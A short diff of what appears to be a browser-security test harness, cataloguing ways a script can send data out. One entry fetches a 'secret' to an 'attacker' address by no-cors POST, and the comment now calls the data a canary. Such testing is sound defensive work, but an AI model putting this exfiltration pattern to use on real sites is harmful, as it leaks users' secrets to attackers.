@@ -1,4 +1,4 @@
-/** Requests that a script makes by itself, to the attacker and, with the secret in the address, to the site's own host. */
+/** Channels by requests of a script, to the attacker or, with the canary in the address, to the site's own host. */
 
 way("fetch", ({ address }) => fetch(address), WORKER_TOO);
 way("fetch by POST, with no answer wanted", ({ attacker, secret }) => fetch(attacker, { method: "POST", mode: "no-cors", body: secret }), WORKER_TOO);
